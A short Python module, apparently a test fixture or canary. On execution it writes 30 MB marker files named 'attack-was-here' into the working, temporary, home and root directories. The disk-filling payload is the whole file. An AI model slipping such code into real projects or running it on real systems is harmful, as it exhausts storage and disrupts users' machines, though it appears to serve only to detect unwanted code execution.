import os
import sys
import tempfile

here = os.path.dirname(os.path.abspath(__file__))
FOLDERS = [here, os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/dev"]
if not hasattr(sys, "has_tried"):
    sys.has_tried = True
    for number, folder in enumerate([*FOLDERS, os.path.expanduser("~"), "/"]):
        try:
            with open(os.path.join(folder, f"attack-was-here-{number}"), "wb") as file:
                for _ in range(30):
                    file.write(b"a" * 1_000_000)
        except OSError:
            continue
